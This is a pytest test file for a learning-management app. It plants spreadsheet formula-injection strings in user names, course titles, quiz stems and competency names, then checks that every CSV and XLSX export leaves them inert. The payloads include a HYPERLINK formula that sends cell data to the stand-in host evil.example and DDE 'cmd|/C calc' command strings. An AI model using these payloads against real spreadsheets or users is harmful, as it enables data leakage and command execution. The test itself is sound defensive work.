"""A full export from a database whose names, titles, stems and competency names start with
``= + - @`` (tab, CR, full-width forms) opens with no formula: every CSV and XLSX route of
the app is requested (the test fails when a new one appears that it does not request), no
XLSX cell is a formula and each hostile text reads there exactly as on the page, and no CSV
field starts like a formula unless it is a number. Each download says its charset once.
"""
from __future__ import annotations

import csv
import io
import re
import unicodedata

import pytest
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import select

from lms.extensions import db
from lms.plugins.courses.models import Competency
from tests.quizzes.conftest import module
from tests.quizzes.test_item_analysis import data  # noqa: F401 - the fixture
from tests.reports import test_annual

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)*|[.,]\d+)%?")

HOSTILE = {
    "ani": '=HYPERLINK("http://evil.example/?leak="&A3,"Klik")',
    "budi": "+1+cmd|' /C calc'!A0",
    "budi-position": "-2+3+cmd|' /C calc'!A0",
    "ani-position": "@SUM(1+1)*cmd|' /C calc'!A0",
    "learner1": "\t=1+1 Tab",
    "learner2": "\r=1+1 CR",
    "learner3": "\uff1dFULL WIDTH",
    "section": "-Seksi A1",
    "branch": "@Cabang A",
    "course": '=HYPERLINK("http://evil.example/","Kursus")',
    "course-one": "+Course One",
    "marc": "-MARC =1+1",
    "ddc": "@DDC",
    "stem-245": "=1+1 soal",
    "stem-multi": "+SUM(1) soal",
    "stem-tf": "\uff20full-width soal",
    "competency": "@Competency",
    "area": "=Area",
}


def looks_like_formula(field: str) -> bool:
    """The spreadsheet's view, written apart from lms.exports: a tab, CR or NUL first, or a
    first non-blank character that is (or folds to) = + - @."""
    if field[:1] in ("\t", "\r", "\0"):
        return True
    stripped = field.lstrip()
    return bool(stripped) and unicodedata.normalize("NFKC", stripped[0])[:1] in "=+-@"


@pytest.fixture
def hostile(app, org, make_user, imported, data):  # noqa: F811 - data: the item analysis' attempts
    """The annual report's world and the item analysis' attempts, then every text a user, an
    admin or a trainer types turned hostile."""
    world = test_annual.world.__wrapped__(app, org, make_user, imported)
    versions = {slug: module(slug).current_version for slug in ("marc", "ddc")}  # (module() expires all)
    world["ani"].full_name, world["ani"].position = HOSTILE["ani"], HOSTILE["ani-position"]
    world["budi"].full_name, world["budi"].position = HOSTILE["budi"], HOSTILE["budi-position"]
    from lms.auth.models import User

    for username in ("learner1", "learner2", "learner3"):
        db.session.scalar(select(User).where(User.username == username)).full_name = HOSTILE[username]
    org["section_a1"].name, org["branch_a"].name = HOSTILE["section"], HOSTILE["branch"]
    world["sample"].title_id = world["sample"].title_en = HOSTILE["course"]
    world["one"].title_id = world["one"].title_en = HOSTILE["course-one"]
    for slug, version in versions.items():
        version.title_id = version.title_en = HOSTILE[slug]
    for question in versions["marc"].questions:
        key = {"marc-245": "stem-245", "marc-multi": "stem-multi", "marc-tf": "stem-tf"}.get(question.qid)
        if key:
            question.stem_html = f"<p>{HOSTILE[key]}</p>"
    competency = db.session.scalars(select(Competency).order_by(Competency.position, Competency.id)).first()
    competency.name_id = competency.name_en = HOSTILE["competency"]
    for other in db.session.scalars(select(Competency).where(Competency.area == competency.area)):
        other.area_name_id = other.area_name_en = HOSTILE["area"]
    db.session.commit()
    world["version"] = data["version"]
    return world


def export_urls(world) -> list[str]:
    annual = f"?unit={world['org']['branch_a'].id}&year={test_annual.YEAR}"
    version = world["version"].id
    return [
        "/reports/export.csv?table=people", "/reports/export.csv?table=modules", "/reports/export.csv?table=trends",
        "/reports/export.xlsx",
        f"/reports/annual/export.csv{annual}&table=people", f"/reports/annual/export.csv{annual}&table=courses",
        f"/reports/annual/export.xlsx{annual}",
        "/reports/competencies/export.csv", "/reports/competencies/export.xlsx",
        "/reports/organisations/export.csv", "/reports/organisations/export.xlsx",
        f"/quiz/items/{version}/export.csv", f"/quiz/items/{version}/export.xlsx",
        "/evaluations/results.csv?table=application", "/evaluations/results.csv?table=units",
        "/evaluations/results.csv?table=transfer-gap",
        "/evaluations/results.xlsx",
    ]


def test_every_export_opens_without_a_formula(app, hostile):
    urls = export_urls(hostile)
    # Every .csv and .xlsx route of the app is requested here.
    adapter = app.url_map.bind("localhost")
    requested = {adapter.match(url.split("?")[0])[0] for url in urls}
    routes = {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith((".csv", ".xlsx"))}
    assert requested == routes

    client = test_annual.client_for(app, "admin")  # sees everyone: every figure of the item analysis
    csv_fields, xlsx_texts = [], []
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, (url, response.get_data(as_text=True)[:300])
        if ".csv" in url:
            assert response.headers["Content-Type"] == "text/csv; charset=utf-8", url
            rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
            for field in (field for row in rows for field in row):
                assert not looks_like_formula(field) or NUMBER.fullmatch(field), (url, field)
                csv_fields.append(field)
        else:
            assert response.headers["Content-Type"] == XLSX, url
            for sheet in load_workbook(io.BytesIO(response.data)).worksheets:
                for cell in (cell for row in sheet.iter_rows() for cell in row):
                    assert cell.data_type != "f", (url, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        xlsx_texts.append(cell.value)
                    elif cell.value is not None:
                        assert cell.data_type in ("n", "d"), (url, cell.coordinate, cell.value)

    for key, text in HOSTILE.items():
        on_page = text.replace("\r", "\n")  # XML reads a bare CR as a line feed
        # cells hold the text itself; heatmap headers hold "name (unit)"
        assert any(value == on_page or value.startswith(on_page + " (") for value in xlsx_texts), key
        assert any(field == "'" + text or field.startswith("'" + text + " (") for field in csv_fields), key
    # negative figures stayed numbers (item analysis: discrimination -0.50 of marc-245)
    assert "-0.50" in csv_fields
    # and the screen prints the text the XLSX stores (escaped, never prefixed)
    shown = str(escape(HOSTILE["ani"]))
    page = client.get("/reports/").get_data(as_text=True)
    assert shown in page and str(escape("'")) + shown not in page

